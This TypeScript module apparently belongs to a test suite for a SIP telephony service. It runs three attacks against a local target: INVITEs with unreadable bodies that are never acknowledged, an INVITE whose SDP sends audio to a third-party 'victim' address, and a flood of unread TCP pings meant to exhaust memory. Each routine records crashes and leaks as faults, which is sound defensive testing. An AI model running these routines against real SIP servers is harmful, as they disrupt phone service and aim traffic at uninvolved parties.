// Attacks by SIP over UDP and TCP, from an address that the number lets in: a carrier's address can be forged.
import { createSocket, type Socket } from "node:dgram"
import { once } from "node:events"
import { connect } from "node:net"
import { type Attack, pause, type Target } from "./Target.ts"

const sdp = (address = "127.0.0.1", port = 40_000) =>
  `v=0\r\no=- 1 1 IN IP4 ${address}\r\ns=-\r\nc=IN IP4 ${address}\r\nt=0 0\r\nm=audio ${port} RTP/AVP 0 101\r\na=rtpmap:101 telephone-event/8000\r\n`

interface Invitation {
  readonly callId: string
  readonly port: number
  readonly headers?: ReadonlyArray<string>
  readonly body?: string
}

const invite = ({ number, sipPort }: Target, { body = "", callId, headers = [], port }: Invitation): string =>
  [
    `INVITE sip:${number}@127.0.0.1:${sipPort} SIP/2.0`,
    `Via: SIP/2.0/UDP 127.0.0.1:${port};branch=z9hG4bK${callId};rport`,
    `From: <sip:+14155550100@127.0.0.1>;tag=${callId}`,
    `To: <sip:${number}@127.0.0.1>`,
    `Call-ID: ${callId}`,
    "CSeq: 1 INVITE",
    `Contact: <sip:attacker@127.0.0.1:${port}>`,
    "Max-Forwards: 70",
    ...headers,
    `Content-Length: ${Buffer.byteLength(body)}`,
    "",
    body
  ].join("\r\n")

/** What a stranger hears from the SIP server, by Call-ID. */
const peer = async (): Promise<{ socket: Socket; port: number; final: (callId: string) => number }> => {
  const socket = createSocket("udp4")
  const finals = new Map<string, number>()
  socket.on("message", (data) => {
    const text = data.toString()
    const status = Number(/^SIP\/2\.0 (\d{3})/.exec(text)?.[1] ?? 0)
    const callId = /^Call-ID: *(\S+)/im.exec(text)?.[1] ?? ""
    if (status >= 200) finals.set(callId, status)
  })
  socket.bind(0, "127.0.0.1")
  await once(socket, "listening")
  return { socket, port: socket.address().port, final: (callId) => finals.get(callId) ?? 0 }
}

/** Bodies that a SIP stack cannot read, each of which is enough. */
const unreadable: ReadonlyArray<readonly [name: string, headers: ReadonlyArray<string>, body: string]> = [
  ["a body without a type", [], sdp()],
  ["a disposition alone", ["Content-Disposition: session"], ""],
  ["a blank body", ["Content-Type: application/sdp"], "   \r\n"],
  ["an encoded body", ["Content-Type: application/sdp", "Content-Encoding: gzip"], sdp()],
  [
    "a disposition that is required",
    ["Content-Type: text/plain", "Content-Disposition: render;handling=required"],
    "x"
  ],
  ["no body", [], ""],
  ["a type of punctuation", ["Content-Type: /;=,"], sdp()]
]

const unreadableBodies: Attack = {
  name: "INVITEs whose body cannot be read, without an ACK",
  run: async (target, strength) => {
    const { final, port, socket } = await peer()
    const sent: Array<readonly [name: string, callId: string]> = []
    for (let round = 0; round < strength; round++) {
      for (const [i, [name, headers, body]] of unreadable.entries()) {
        const callId = `unreadable${round}x${i}x${Date.now()}`
        socket.send(invite(target, { callId, port, headers, body }), target.sipPort, "127.0.0.1")
        sent.push([name, callId])
        await pause(100)
      }
    }
    // The timers of what was accepted fire meanwhile.
    await pause(4_000)
    const isAlive = target.service.process.exitCode === null && target.service.process.signalCode === null
    const statuses = sent.map(([name, callId]) => `${name} ${final(callId)}`)
    const probe = `probe${Date.now()}`
    const options = invite(target, { callId: probe, port }).replaceAll("INVITE", "OPTIONS")
    if (isAlive) socket.send(options, target.sipPort, "127.0.0.1")
    await pause(300)
    socket.close()
    return {
      figure: statuses.slice(0, unreadable.length).join(", "),
      faults: [
        ...(isAlive ? [] : ["the service is gone"]),
        ...(final(probe) === 200 ? [] : ["a probe had no answer"]),
        ...sent.filter(([, callId]) => final(callId) === 500).map(([name]) => `${name}: answered 500`)
      ]
    }
  }
}

const spoofedMedia: Attack = {
  name: "an INVITE that is never acknowledged, for sound to a victim",
  run: async (target) => {
    const victim = createSocket("udp4")
    victim.bind(0, "127.0.0.1")
    await once(victim, "listening")
    let packets = 0
    victim.on("message", () => packets++)
    const { final, port, socket } = await peer()
    const callId = `spoofed${Date.now()}`
    const headers = ["Content-Type: application/sdp"]
    const body = sdp("127.0.0.1", victim.address().port)
    socket.send(invite(target, { callId, port, headers, body }), target.sipPort, "127.0.0.1")
    await pause(3_000)
    socket.close()
    victim.close()
    return {
      figure: `${packets} packets after ${final(callId)}`,
      faults: packets > 0 ? [`${packets} packets of sound were sent to whom the INVITE named`] : []
    }
  }
}

const unreadPings: Attack = {
  name: "TCP pings whose answers are never read",
  run: async (target, strength) => {
    const { grownMiB } = await target.watch(async () => {
      const sockets = await Promise.all(
        Array.from({ length: 8 }, async () => {
          const socket = connect(target.sipPort, "127.0.0.1").on("error", () => undefined)
          await Promise.race([once(socket, "connect"), once(socket, "close")])
          socket.pause()
          return socket
        })
      )
      const pings = "\r\n\r\n".repeat(16_384)
      for (let i = 0; i < 100 * strength; i++) {
        for (const socket of sockets) if (!socket.destroyed && socket.writableLength < 2 ** 22) socket.write(pings)
        await pause(5)
      }
      for (const socket of sockets) socket.destroy()
    })
    return { figure: `${grownMiB} MiB more`, faults: grownMiB > 100 ? [`${grownMiB} MiB held for pings`] : [] }
  }
}

export const telephoneAttacks: ReadonlyArray<Attack> = [unreadableBodies, spoofedMedia, unreadPings]
